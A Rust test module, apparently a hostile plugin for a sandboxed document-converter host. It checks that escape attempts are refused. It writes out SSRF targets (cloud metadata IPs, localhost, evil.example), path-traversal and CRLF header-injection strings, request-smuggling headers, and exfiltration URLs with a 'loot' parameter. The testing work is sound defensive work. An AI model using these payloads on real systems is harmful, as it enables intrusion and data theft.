//! Reaches for what is not granted: hosts, paths, methods, headers, addresses, other plugins.

use std::net::{TcpStream, ToSocketAddrs as _, UdpSocket};

use crate::bindings::exports::kbhost::converter::converter::{ConvertError, Document};
use crate::bindings::kbhost::cloud::endpoint::{Body, CloudError, Method, Response, call, locate};
use crate::{SERVICE, escaped, get, page};

/// What somebody would take out of a document.
const LOOT: &str = "?loot=the-text-of-the-document";

/// A page that says that every one of `attempts` was refused; an escape if one was not.
fn all_refused(
    what: &str,
    attempts: impl IntoIterator<Item = (String, Result<Response, CloudError>)>,
) -> Result<Document, ConvertError> {
    let mut count = 0_u32;
    for (attempt, result) in attempts {
        match result {
            Err(CloudError::Refused(_)) => count += 1,
            other => return Err(escaped(&format!("{what}: {attempt:?}: {other:?}"))),
        }
    }
    page(&format!("refused: {what} {count} times"))
}

fn get_of(endpoint: &str, path: &str) -> Result<Response, CloudError> {
    call(endpoint, Method::Get, path, &[], &Body::Empty)
}

/// Hosts that nobody granted; `host` is one that listens.
fn hosts(host: &str) -> Vec<String> {
    let known = [
        "evil.example",
        "169.254.169.254",
        "127.0.0.1",
        "[::1]",
        "localhost",
        "metadata.google.internal",
    ];
    // First the one that would answer.
    let all = [host].into_iter().chain(known);
    all.filter(|host| !host.is_empty())
        .map(str::to_owned)
        .collect()
}

pub(crate) fn second_host(host: &str) -> Result<Document, ConvertError> {
    let mut endpoints = vec![String::new(), "evil".to_owned(), "PAGEINDEX".to_owned()];
    for host in hosts(host) {
        endpoints.extend([
            host.clone(),
            format!("http://{host}"),
            format!("https://{host}/"),
            format!("pageindex-images:{host}"),
            format!("pageindex-images:http://{host}"),
            format!("pageindex@{host}"),
            format!("pageindex.{host}"),
        ]);
    }
    let attempts = endpoints.into_iter().flat_map(|endpoint| {
        ["/", "/doc/plain/metadata/", LOOT].map(|path| {
            let result = get_of(&endpoint, path);
            (endpoint.clone(), result)
        })
    });
    all_refused("second-host", attempts)
}

pub(crate) fn path_tricks(host: &str) -> Result<Document, ConvertError> {
    let mut paths: Vec<String> = [
        "",
        "doc/plain/",
        "/",
        "/doc/../x",
        "/doc/plain/../../x",
        "/doc/./metadata/",
        "/doc/%2e%2e/metadata/",
        "/doc/..%2fx/",
        "/doc/%70lain/",
        "/doc/plain//",
        "/doc//",
        "/doc/plain/metadata/#x",
        "/doc/plain/?type=tree#x",
        "/doc/plain/?type=tree&type=ocr",
        "/doc/plain/?loot=x",
        "/doc/plain/?type=the%20text",
        "/doc/plain/;x",
        "/doc/plain/\r\nhost: evil.example\r\n\r\n",
        "/doc/plain/ HTTP/1.1\r\n\r\nGET /x",
        "/doc/plain/\t",
        "/doc/plain/\0",
        "/doc/pl\u{e4}in/",
        "/doc\\plain\\",
        "\\\\evil.example\\x",
    ]
    .map(str::to_owned)
    .into();
    for host in hosts(host) {
        paths.extend([
            format!("//{host}/"),
            format!("/\\{host}/"),
            format!("@{host}/"),
            format!(":80@{host}/"),
            format!(".{host}/"),
            format!("http://{host}/"),
            format!("/http://{host}/"),
        ]);
    }
    paths.push(format!("/doc/{}/", "x".repeat(100_000)));
    let attempts = paths.into_iter().map(|path| {
        let result = get(&path);
        (path, result)
    });
    all_refused("path-tricks", attempts)
}

pub(crate) fn methods() -> Result<Document, ConvertError> {
    let tries = [
        (Method::Put, "/doc/plain/"),
        (Method::Put, "/doc/"),
        (Method::Delete, "/doc/plain/"),
        (Method::Delete, "/docs/"),
        (Method::Post, "/doc/plain/"),
        (Method::Post, "/docs/"),
        (Method::Get, "/doc/"),
    ];
    let attempts = tries.into_iter().map(|(method, path)| {
        let result = call(SERVICE, method, path, &[], &Body::Empty);
        (format!("{method:?} {path}"), result)
    });
    all_refused("methods", attempts)
}

pub(crate) fn headers() -> Result<Document, ConvertError> {
    let single = [
        ("host", "evil.example"),
        ("Host", "evil.example"),
        ("api_key", "mine"),
        ("API_KEY", "mine"),
        ("authorization", "Bearer x"),
        ("cookie", "a=b"),
        ("proxy-authorization", "x"),
        ("x-forwarded-host", "evil.example"),
        ("forwarded", "host=evil.example"),
        ("connection", "api_key"),
        ("transfer-encoding", "chunked"),
        ("content-length", "1"),
        ("content-type", "text/plain"),
        ("accept-encoding", "gzip"),
        ("expect", "100-continue"),
        ("upgrade", "h2c"),
        ("te", "trailers"),
        ("trailer", "x"),
        ("referer", "the text of the document"),
        ("accept", "a\r\nhost: evil.example"),
        ("accept", "a\nb"),
        ("accept", "a\0b"),
        ("accept\r\nhost", "x"),
        ("", "x"),
        (":authority", "evil.example"),
    ];
    let mut sets: Vec<Vec<(String, String)>> = single
        .iter()
        .map(|(name, value)| vec![((*name).to_owned(), (*value).to_owned())])
        .collect();
    let accept = |value: &str| ("accept".to_owned(), value.to_owned());
    sets.extend([
        vec![accept(&"x".repeat(10_000))],
        vec![accept("a"), accept("b")],
        vec![accept("a"); 1_000],
    ]);
    let attempts = sets.into_iter().map(|headers| {
        let result = call(SERVICE, Method::Get, "/docs/", &headers, &Body::Empty);
        (format!("{:?}", headers.first()), result)
    });
    all_refused("headers", attempts)
}

/// Addresses that stood in no answer, or in one, but of hosts that nobody granted.
pub(crate) fn made_up_address(host: &str) -> Result<Document, ConvertError> {
    let mut addresses = Vec::new();
    // Addresses of pictures; whoever grants their host has the guest ask for one of its own.
    if let Ok(answer) = get("/doc/pictures/?type=ocr") {
        let text = String::from_utf8_lossy(&answer.body).replace("\\/", "/");
        for (at, _) in text.match_indices("http://") {
            let rest = &text[at..];
            let end = rest.find(['"', '\\', ')', ' ']).unwrap_or(rest.len());
            let address = &rest[..end];
            let origin = address.splitn(4, '/').take(3).collect::<Vec<_>>().join("/");
            addresses.extend([
                format!("{address}{LOOT}"),
                format!("{address}&loot=x"),
                format!("{origin}/{LOOT}"),
                address.replace("http://", "http://user@"),
            ]);
        }
    }
    for host in hosts(host) {
        addresses.extend([
            format!("http://{host}/{LOOT}"),
            format!("https://{host}/{LOOT}"),
        ]);
    }
    let mut asked = 0_u32;
    for address in addresses {
        if let Some(location) = locate(&address) {
            let what = format!("made-up-address: {address}: {location:?}");
            return Err(escaped(&what));
        }
        let (_, rest) = address.split_once("://").unwrap_or_default();
        let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
        let result = get_of(&format!("pageindex-images:{host}"), &format!("/{path}"));
        if !matches!(result, Err(CloudError::Refused(_))) {
            return Err(escaped(&format!("made-up-address: {address}: {result:?}")));
        }
        asked += 1;
    }
    page(&format!("refused: made-up-address {asked} times"))
}

/// An answer that leads elsewhere is an answer.
pub(crate) fn redirect() -> Result<Document, ConvertError> {
    match get("/doc/redirect/metadata/") {
        Ok(answer) if (300..400).contains(&answer.status) => {
            match answer.headers.iter().any(|(name, _)| name == "location") {
                false => page("not followed: redirect"),
                true => Err(escaped("told where it leads")),
            }
        }
        other => Err(escaped(&format!("redirect: {other:?}"))),
    }
}

/// There is no import for it: what is left are names.
pub(crate) fn other_plugin() -> Result<Document, ConvertError> {
    let names = [
        "markdown",
        "pdf",
        "pageindex-cloud",
        "hostile-cloud",
        "plugin:pdf",
        "kbhost:converter/converter@0.1.0",
        "kbhost:cloud/catalog@0.1.0",
        "wasi:http/outgoing-handler@0.2.0",
    ];
    let attempts = names.into_iter().map(|name| {
        let result = get_of(name, "/convert");
        (name.to_owned(), result)
    });
    all_refused("other-plugin", attempts)
}

pub(crate) fn sockets(host: &str) -> Result<Document, ConvertError> {
    let host = if host.is_empty() {
        "127.0.0.1:80"
    } else {
        host
    };
    let tcp = TcpStream::connect(host).map(drop);
    let udp = UdpSocket::bind("127.0.0.1:0").map(drop);
    let name = "localhost:80".to_socket_addrs().map(drop);
    match tcp.or(udp).or(name) {
        Ok(()) => Err(escaped("a socket")),
        Err(error) => page(&format!("refused: sockets: {:?}", error.kind())),
    }
}
